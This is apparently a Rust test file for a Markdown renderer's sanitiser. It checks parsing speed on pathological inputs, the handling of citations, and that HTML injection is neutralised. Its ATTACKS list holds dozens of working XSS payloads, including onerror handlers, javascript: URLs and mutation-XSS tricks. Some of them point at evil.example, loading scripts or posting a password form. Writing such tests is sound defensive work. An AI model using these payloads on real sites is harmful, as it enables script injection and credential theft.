    let (facts, ..) = read("## One two\n\nthree `four`\n\n- five\n\n[^x]: not this\n", false);
    assert_eq!((facts.words, facts.has_math, facts.has_code), (5, false, false));
    let (facts, ..) = read("$x$\n\n    code", false);
    assert_eq!((facts.has_math, facts.has_code), (true, true));
}

#[test]
fn short_texts_are_one_line_without_blocks() {
    for (text, html) in [
        ("a *b* **c** `d<e>` ~~f~~", "a <em>b</em> <strong>c</strong> <code>d&lt;e&gt;</code> <del>f</del>"),
        ("2023. A year", "2023. A year"),
        ("# not a heading\n- nor a list", "# not a heading - nor a list"),
        ("    not code", "not code"),
        ("\"It's\" so -- yes", "“It’s” so – yes"),
        ("*a*", "<em>a</em>"),
        ("_a_ b", "<em>a</em> b"),
        ("<b onclick=x>c</b><script>", "&lt;b onclick=x&gt;c&lt;/b&gt;&lt;script&gt;"),
        ("[a](https://b.c/?d&e) [f](g.md) [h](javascript:i)", "<a href=\"https://b.c/?d&amp;e\">a</a> f h"),
        ("![a](b.png)", "a"),
        ("", ""),
        ("{{ x }}", "{{ x }}"),
    ] {
        assert_eq!(inline(text), html, "{text}");
    }
}

#[test]
fn nesting_beyond_the_limit_is_an_error_and_the_text_is_shown() {
    let text = format!("text\n\n{}<b>", "> ".repeat(101));
    let (facts, diagnostics, body) = read(&text, false);
    let found = diagnostics.iter().next().unwrap();
    assert_eq!((found.finding, found.severity), (Finding::NestedTooDeep, Severity::Error));
    assert_eq!(found.place.span, Some(Span::new(6 + 200, 6 + 201)));
    assert!(body.html.starts_with("<pre class=\"unparsed\">text\n\n&gt; "));
    assert!(facts.headings.is_empty());
    assert!(read(&format!("{}a", "> ".repeat(100)), false).1.is_empty());
}

/// Texts that take some parsers quadratic time or space, at a given size.
fn hostile(size: usize) -> Vec<(&'static str, String)> {
    let fill = |piece: &str| piece.repeat(size / piece.len());
    let rows = |head: &str, line: &str| {
        format!("{}\n{}\n{}", head.repeat(size / 40), "|-".repeat(size / 40) + "|", line.repeat(size / 10))
    };
    let mut all: Vec<(&'static str, String)> = [
        "[",
        "]",
        "*",
        "**a ",
        "_a_b",
        ">",
        "> ",
        "`",
        "`a ",
        "``` ",
        "![",
        "[[",
        "[[a|",
        "]]",
        "<a ",
        "<",
        "</",
        "<!--",
        "<!-- a",
        "<?",
        "<![CDATA[",
        "<div ",
        "<div>\n\n",
        "<b>",
        "</b>",
        "<b>a\n\n",
        "<p>a ",
        "&",
        "&amp",
        "$",
        "$$a",
        "~~",
        "~",
        "[^a]",
        "[^a]: b\n\n",
        "[^a",
        "- ",
        "- a\n",
        "1. ",
        "+ > ",
        "|",
        "| a | b\n",
        "a\n: b\n",
        "\"",
        "'a",
        "--",
        "# a\n",
        "#\n",
        "{#a}",
        "## a {#b}\n",
        "- [ ] a\n",
        "> a\n\n",
        "> — a\n>\n",
        "[a](b) ",
        "[a](",
        "![a](b \"c\")\n\n",
        "[[a]] ",
        "<a href=b>c</a> ",
        "<a href=\"",
        "<img srcset=\"",
        "[a]: b\n",
        "[a]: b\n\n[a] ",
        "\\",
        "  \n",
        "\t",
        "<https://a.b> ",
        "a@b.c ",
        ". A",
        "。",
        "a\u{301}",
        "<div>\n<script>\n",
        "<svg><style>",
        "<li>",
        "<table><tr><td>",
        "<ul><li>",
        "</script",
        "> [!NOTE]\n\n",
        "```x\n```\n",
        "    a\n\n",
    ]
    .into_iter()
    .map(|piece| (piece, fill(piece)))
    .collect();
    all.push(("html block of <a", format!("<div>\n{}", fill("<a "))));
    all.push(("html block of quotes", format!("<div>\n{}", fill("<a b=\"c\" \""))));
    all.push(("html block of attributes", format!("<div {}>", fill("a=b "))));
    all.push(("html block of scripts", format!("<div>{}", fill("<script><xmp>"))));
    all.push((
        "nested lists",
        (0..).map(|i| format!("{}- a\n", "  ".repeat(i % 90))).take(size / 100).collect(),
    ));
    all.push((
        "blank lines in lists",
        format!("{}{}", (0..90).map(|i| format!("{}- a\n", "  ".repeat(i))).collect::<String>(), fill("\n")),
    ));
    all.push(("footnotes", (0..size / 40).map(|i| format!("a[^{i}]\n\n[^{i}]: b[^{i}]\n\n")).collect()));
    all.push((
        "footnotes that chain",
        format!(
            "a[^0]\n\n{}",
            (0..size / 40).map(|i| format!("[^{i}]: b[^{}]\n\n", i + 1)).collect::<String>()
        ),
    ));
    all.push(("one footnote", format!("{}\n\n[^a]: b\n", fill("[^a] "))));
    all.push(("references", format!("[a]: {}\n\n{}", "x".repeat(size / 2), "[a] ".repeat(size / 8))));
    all.push(("wide table, short rows", rows("|a", "|\n")));
    all.push(("equal headings", fill("## Content\n\n")));
    all.push((
        "taken headings",
        format!(
            "{}{}",
            (2..size / 40).map(|i| format!("## a {i}\n\n")).collect::<String>(),
            "## a\n\n".repeat(size / 14)
        ),
    ));
    all.push(("long sentence of links", fill("word [a](b.md), ")));
    all.push(("many unknown languages", (0..size / 20).map(|i| format!("```a{i}\n```\n")).collect()));
    all.push(("one long language", format!("```{}\n", fill("a"))));
    all.push(("quotes in quotes", format!("{}{}", "> ".repeat(90), fill("a [b](c) "))));
    all
}

/// The quickest of three, so that a busy machine does not fail it.
fn time(text: &str) -> (Duration, usize) {
    let mut quickest = Duration::MAX;
    let mut written = 0;
    for _ in 0..3 {
        let start = Instant::now();
        let (facts, _, body) = read(text, false);
        quickest = quickest.min(start.elapsed());
        written = body.html.len()
            + facts.outgoing.iter().filter_map(|l| l.sentence.as_ref()).map(|s| s.text.len()).sum::<usize>();
    }
    (quickest, written)
}

#[test]
fn hostile_texts_take_linear_time_and_space() {
    let (small, large) = (12_500, 50_000);
    for ((name, short), (_, long)) in hostile(small).into_iter().zip(hostile(large)) {
        let (before, _) = time(&short);
        let (after, written) = time(&long);
        // Four times the text; quadratic is sixteen times the time.
        let slowest = (before * 10).max(Duration::from_millis(150));
        assert!(
            after < slowest,
            "{name}: {} bytes in {before:?}, {} bytes in {after:?}",
            short.len(),
            long.len()
        );
        // The parser allows references 100 kB more than the text has.
        assert!(written <= 50 * long.len() + 200_000, "{name}: {} bytes became {written}", long.len());
    }
}

/// Attempts to get code, foreign frames or forms into a page, or to change how a browser reads it.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/xss src=x></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><b><style><!--</style></b></desc></svg><img src onerror=alert(1)>-->",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<title><a title=\"</title><img src onerror=alert(1)>\">",
    "<textarea><a title=\"</textarea><img src onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<plaintext>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:alert(1))\">x</div>",
    "<div id=currentScript name=getElementById class=site-header>x</div>",
    "<a id=__proto__ name=cookie href=#x>x</a>",
    "<img name=getElementById src=x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href='x' href='javascript:alert(1)'>x</a>",
    "<a target=_blank ping=//evil.example href=/\\evil.example>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<audio autoplay onplay=alert(1) src=x></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<table><td><form><input></td></table></div></main></body></html>",
    "<p title=\"--><script>alert(1)</script>\">x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>--!><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml ?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>",
    "<a<script>alert(1)</script>",
    "<a\u{c}onclick=alert(1)>x</a>",
    "<b/onclick=alert(1)/>x",
    "<b\u{0b}onclick=alert(1)>x</b>",
    "\"><script>alert(1)</script>",
    "'\"--></style></script><script>alert(1)</script>",
    "<img srcset=\"javascript:alert(1) 1x, data:x 2x\">",
    "<img src=x title=\"`onerror=alert(1)\">",
    "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
    "<br =\"><script>alert(1)</script>\">",
    "<p =x onclick=alert(1) <b>y",
    "<ruby><rt><template><b>",
    "<li></ul></ol></section></article></main>",
    "</textarea></title></style></script><h1 id=main>x",
];

/// Tags of a text as names with attributes, sorted; panics where the HTML is not of the regular form that we write.
fn regular_tags(html: &str) -> Vec<String> {
    const OURS: &[&str] = &["label", "input", "section", "figure", "figcaption", "aside", "pre"];
    let mut tags = Vec::new();
    for (at, _) in html.match_indices('<') {
        let tag = &html[at + 1..];
        let tag = &tag[..tag.find('>').unwrap_or_else(|| panic!("a tag without end: {html}"))];
        let name = tag.trim_start_matches('/').split(' ').next().unwrap();
        assert!(
            OURS.contains(&name) || crate::document::safety::allowed_element(name).is_some(),
            "<{tag}> in {html}"
        );
        let mut rest = tag.trim_start_matches('/')[name.len()..].to_owned();
        while !rest.is_empty() {
            let attribute = rest.strip_prefix(' ').unwrap_or_else(|| panic!("<{tag}> in {html}")).to_owned();
            let key: String =
                attribute.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '-').collect();
            assert!(
                !key.is_empty()
                    && !key.starts_with("on")
                    && !["style", "name", "srcdoc", "ping", "action"].contains(&key.as_str()),
                "<{tag}> in {html}"
            );
            rest = attribute[key.len()..].to_owned();
            if let Some(value) = rest.strip_prefix("=\"") {
                let (value, after) = value.split_once('"').unwrap_or_else(|| panic!("<{tag}> in {html}"));
                if ["href", "src", "poster"].contains(&key.as_str()) {
                    let decoded = crate::document::safety::decode_entities(value);
                    assert_ne!(safe_url(&decoded), Url::Unsafe, "<{tag}> in {html}");
                }
                rest = after.to_owned();
            }
        }
        if !tag.starts_with('/') {
            tags.push(name.to_owned());
        }
    }
    tags.sort();
    tags
}

#[test]
fn attacks_come_out_as_plain_tags_that_browsers_read_as_they_stand() {
    let contexts: &[&dyn Fn(&str) -> String] = &[
        &|a| a.to_owned(),
        &|a| format!("text {a} text"),
        &|a| format!("<div>\n{a}\n\n*text*\n\n</div>\n\nafter"),
        &|a| format!("> - {a}\n\nafter"),
        &|a| format!("| {a} | b |\n|---|---|\n| c | {a} |"),
        &|a| format!("## {a} {{#{a}}}\n\nafter"),
        &|a| format!("[{a}](x.md \"{a}\") ![{a}](<{a}> '{a}')"),
        &|a| format!("[x](<{a}>) [x]({a}) <{a}> [[{a}]] ![[{a}|{a}]]"),
        &|a| format!("```{a}\n{a}\n```\n\n~~~html\n{a}\n~~~"),
        &|a| format!("A[^1]\n\n[^1]: {a}\n\n    {a}\n"),
        &|a| format!("$${a}$$ `{a}` - [ ] {a}\n\n- [ ] {a}"),
        &|a| format!("> {a}\n>\n> — {a}"),
        &|a| format!("{a}\n: {a}"),
    ];
    let mut cleaner = ammonia::Builder::default();
    cleaner.clean_content_tags(Default::default()).link_rel(None).add_tags([
        "label", "input", "section", "audio", "video", "source", "picture", "track", "big", "address",
        "footer", "font",
    ]);
    for attack in ATTACKS {
        for context in contexts {
            let text = context(attack);
            let (_, _, body) = read(&text, false);
            let mut html = String::new();
            body.fill(&mut html, |hole, out| hole.slot.write(out, "/page/"));
            let mut missing = regular_tags(&html);
            // A browser's parser, after which only known elements are left: all of ours must be. It
            // may add some (a `tbody`, a `p` that was closed early).
            for tag in regular_tags(&cleaner.clean(&html).to_string().replace("&nbsp;", " ")) {
                if let Some(at) = missing.iter().position(|t| *t == tag) {
                    missing.swap_remove(at);
                }
            }
            assert!(missing.is_empty(), "{missing:?} lost of {html}");
        }
    }
}

#[test]
fn what_was_made_safe_is_safe_again() {
    for attack in ATTACKS {
        let (facts, _, body) = read(&format!("<div>\n{attack}\n</div>"), false);
        let once = filled(&facts, &body);
        let (facts, _, body) = read(&once, false);
        let twice = filled(&facts, &body);
        let lines = |html: &str| {
            html.lines().filter(|l| !l.trim().is_empty()).map(|l| l.trim().to_owned()).collect::<String>()
        };
        assert_eq!(
            regular_tags(&once).len(),
            regular_tags(&twice).len(),
            "{}\n{}",
            lines(&once),
            lines(&twice)
        );
    }
}

proptest::proptest! {
    #[test]
    fn any_text_gives_regular_html_and_one_hole_for_each_link(
        pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..40)
    ) {
        let text = pieces.concat();
        let (facts, _, body) = read(&text, false);
        let mut html = String::new();
        body.fill(&mut html, |hole, out| hole.slot.write(out, "/page/"));
        regular_tags(&html);
        read(&text, true);
        for link in &facts.outgoing {
            let _ = &text[link.span.start as usize..link.span.end as usize];
        }
        let _ = inline(&text);
        let _ = commonmark(&text);
    }
}

/// What random texts are made of.
const PIECES: &[&str] = &[
    "\n> — A B, 2023-05-06",
    "\n>\n> -- ",
    "\n> text",
    "$$-x$$",
    "a",
    "é",
    "日本",
    " ",
    "\n",
    "\n\n",
    "    ",
    "\t",
    "# ",
    "## ",
    "- ",
    "1. ",
    "> ",
    "> — ",
    "* ",
    "**",
    "_",
    "`",
    "```",
    "~~~",
    "~~",
    "$",
    "$$",
    "|",
    "|-|-|\n",
    "[",
    "]",
    "(",
    ")",
    "[[",
    "]]",
    "![",
    "![[",
    "[^1]",
    "[^1]: ",
    "[^é]",
    "[x]: /y\n",
    "](x.md)",
    "](<",
    "> ",
    "{#é}",
    "{#",
    "}",
    "\\",
    "&",
    "&amp;",
    "&#9;",
    "<",
    ">",
    "</",
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "<a href=\"x.md\">",
    "</a>",
    "<a href='",
    "<img src=x srcset=\"a 1x, b 2x\">",
    "<ul><li>",
    "</ul>",
    "<table><tr><td>",
    "<script>",
    "</script>",
    "<!--",
    "-->",
    "<p title=\"é\">",
    "\"",
    "'",
    "=",
    "/",
    ":",
    ": ",
    "- [ ] ",
    "- [x] ",
    "> [!TIP]\n",
    "---\n",
    "===\n",
    "<https://a.b/é>",
    "javascript:",
    ". ",
    "…",
    "\u{301}",
];

/// Each citation as `id, locator: before|after`, with the place of its id checked.
#[track_caller]
fn check_citations(text: &str, expected: &[&str]) {
    let (facts, _, _) = read(text, false);
    let told: Vec<String> = facts
        .citations
        .iter()
        .map(|citation| {
            let span = citation.id.span;
            let typed = &text[span.start as usize..span.end as usize];
            assert_eq!(typed.trim_start_matches('@'), citation.id.value);
            let sentence = citation.sentence.as_ref().map_or(String::new(), |s| {
                let (before, after) = s.text.split_at(s.mark.start as usize);
                format!(": {before}|{after}")
            });
            let comma = if citation.locator.is_empty() { "" } else { ", " };
            format!("{}{comma}{}{sentence}", citation.id.value, citation.locator)
        })
        .collect();
    assert_eq!(told, expected, "{text}");
}

#[test]
fn citations_become_raised_holes_behind_the_word() {
    let sup = |inner: &str| format!("<sup class=\"footnote-ref cite\">{inner}</sup>");
    check("It rose [@a].", &format!("<p>It rose{}.</p>", sup("(a)")));
    check("It rose.[@a, p. 4] So", &format!("<p>It rose.{} So</p>", sup("(a), p. 4")));
    check("Rose\n[see @a; @b, ch. 2]", &format!("<p>Rose{}</p>", sup("see (a), (b), ch. 2")));
    check("Rose [@a, p. 1; @b]", &format!("<p>Rose{}</p>", sup("(a), p. 1; (b)")));
    check("A[@a][@b]", &format!("<p>A{}</p>", sup("(a), (b)")));
    check("It [sic][@b] rose", &format!("<p>It [sic]{} rose</p>", sup("(b)")));
    check("*rose* [@a_b_c]", &format!("<p><em>rose</em>{}</p>", sup("(a_b_c)")));
    check(
        "| a [@x] |\n|-|",
        "<div class=\"table\" tabindex=\"0\">\n<table>\n<thead><tr><th scope=\"col\">a<sup class=\"footnote-ref cite\">(x)</sup></th></tr></thead>\n</table>\n</div>",
    );
    check("[@a, <b>]", &format!("<p>{}</p>", sup("(a), &lt;b&gt;")));
    check(
        "![x](y.png)[@a]",
        &format!("<p><img src=\"y.png\" alt=\"x\" loading=\"lazy\" decoding=\"async\">{}</p>", sup("(a)")),
    );
}

#[test]
fn what_is_code_link_heading_or_escaped_cites_nothing() {
    check("`[@a]`", "<p><code>[@a]</code></p>");
    check("\\[@a]", "<p>[@a]</p>");
    check("# T\n\n## See [@a]", "<h2 id=\"see-a\">See [@a]</h2>");
    check("[@a](x.md)", "<p><a href=\"x.md\">@a</a></p>");
    check("[see [@a] there](x.md)", "<p><a href=\"x.md\">see [@a] there</a></p>");
    check("[see [@a]](x.md)", "<p><a href=\"x.md\">see [@a]</a></p>");
    check("[[@a]]", "<p><a href=\"@a\">@a</a></p>");
    check("[@a]\n\n[@a]: x.md", "<p><a href=\"x.md\">@a</a></p>");
    check("![@a]", "<p>![@a]</p>");
    check("<a href=\"x.md\">see [@a]</a>", "<p><a href=\"x.md\">see [@a]</a></p>");
    check("me@e.org [me@e.org]", "<p>me@e.org [me@e.org]</p>");
    check_findings("[^@a]", &["undefined-footnote: [^@a]"]);
}

#[test]
fn citations_tell_what_they_are_cited_for() {
    check_citations("One. It rose [@a, p. 4]. Then fell.", &["a, p. 4: It rose|."]);
    check_citations("One. It rose. [@a] Then fell.", &["a: It rose.|"]);
    check_citations("[@a] says so. Others not.", &["a: |says so."]);
    check_citations("[@a]", &["a"]);
    check_citations("A [@a] b [@b].\n\n- C [@c]", &["a: A| b.", "b: A b|.", "c: C|"]);
    check_citations("See [x ](y.md)[@a] é", &["a: See x|  é"]);
    check_citations("Text.[^1] [@a]\n\n[^1]: Note [@b].", &["a: Text.|", "b: Note|."]);
    check_citations("Text.\n\n[^1]: Never [@b].", &[]);
    let (facts, ..) = read("It rose [@a], fell [@b].", false);
    assert_eq!((facts.excerpt.as_str(), facts.words), ("It rose, fell.", 3));
}

#[test]
fn citations_without_end_cost_no_more_than_links() {
    let began = Instant::now();
    for text in
        ["[@a] ".repeat(100_000), "[@a][@b]".repeat(50_000), "[see @a; ".repeat(50_000), "[@".repeat(100_000)]
    {
        let (facts, _, _) = read(&text, false);
        assert!(facts.citations.len() <= 10_000);
    }
    assert!(began.elapsed() < Duration::from_secs(20), "{:?}", began.elapsed());
}
